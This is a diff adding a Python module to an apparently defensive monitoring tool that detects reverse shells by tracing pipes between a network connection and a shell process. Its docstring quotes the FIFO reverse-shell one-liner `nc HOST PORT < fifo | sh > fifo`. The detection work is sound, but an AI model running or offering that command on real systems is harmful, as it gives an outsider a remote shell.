@@ -1,0 +1,85 @@
+"""Who is fed through pipes by a connection: `nc HOST PORT < fifo | sh > fifo`, and what is like it.
+
+A process whose standard output leads, by pipes and maybe through others, to the standard input of a second one, and whose
+standard input comes from there again, is that one's terminal. Of pipes without a name only standard files count: a program
+that starts another one and talks to it holds their other ends somewhere else (``subprocess``, ``popen``), and that is how
+honest work is built. FIFOs count wherever they are open: ``cat fifo | sh`` reads one.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Collection, Iterable, Iterator, Mapping
+
+from killswitch.events import Flow
+from killswitch.facts import Pipe, PipeEnds
+
+PIPED = "network.piped"
+FIRST_NS = 900_000_000  # from one look to the next, at first: connections are told of once a second
+LONGEST_NS = 32_000_000_000  # …and at most: a long download must not be looked at every second
+MAX_LOOKED = 512  # connections
+
+
+class Looks:
+    """When the pipes around a connection are to be looked at: while it talks, again after twice the time."""
+
+    __slots__ = ("_of",)
+
+    def __init__(self) -> None:
+        self._of: dict[int, tuple[int, int]] = {}  # cookie -> (not before, the pause after that)
+
+    def due(self, flow: Flow) -> bool:
+        """Whether now is a time to look; then it counts as done."""
+        at, pause = self._of.get(flow.cookie, (0, FIRST_NS))
+        if flow.closed:
+            self._of.pop(flow.cookie, None)
+            return False
+        if flow.time_ns < at or not flow.received_bytes:
+            return False
+        if flow.cookie not in self._of and len(self._of) >= MAX_LOOKED:
+            del self._of[next(iter(self._of))]
+        self._of[flow.cookie] = flow.time_ns + pause, min(2 * pause, LONGEST_NS)
+        return True
+
+
+def fed(feeder: tuple[int, int], takers: Collection[int], processes: Iterable[PipeEnds]) -> Iterator[PipeEnds]:
+    """The processes whose standard input comes from ``feeder`` (pid, start ticks), and whose output comes to its standard
+    input or to that of one of ``takers`` (pids that talk to the same host). The feeder itself is none of them."""
+    every = {p.pid: p for p in processes}
+    source = every.get(feeder[0])
+    if source is None or source.start_ticks != feeder[1]:
+        return
+    readers: dict[Pipe, list[PipeEnds]] = {}
+    writers: dict[Pipe, list[PipeEnds]] = {}
+    for p in every.values():
+        for pipe in p.reads:
+            readers.setdefault(pipe, []).append(p)
+        for pipe in _sends(p):
+            writers.setdefault(pipe, []).append(p)
+    ends = [pipe for p in every.values() if p is source or p.pid in takers for pipe in p.reads]
+    down = _reached(_sends(source), readers, _sends)
+    up = _reached(ends, writers, lambda p: p.reads)
+    for pid in sorted(down & up - {source.pid}):
+        yield every[pid]
+
+
+def _sends(p: PipeEnds) -> tuple[Pipe, ...]:
+    """Where what it writes comes to others."""
+    return tuple(pipe for pipe in p.writes if pipe not in p.reads)
+
+
+def _reached(
+    starts: Iterable[Pipe],
+    along: Mapping[Pipe, Iterable[PipeEnds]],
+    onward: Callable[[PipeEnds], Iterable[Pipe]],
+) -> set[int]:
+    found: set[int] = set()
+    waiting = list(starts)
+    seen = set(waiting)
+    while waiting:
+        for p in along.get(waiting.pop(), ()):
+            found.add(p.pid)
+            for pipe in onward(p):
+                if pipe not in seen:
+                    seen.add(pipe)
+                    waiting.append(pipe)
+    return found
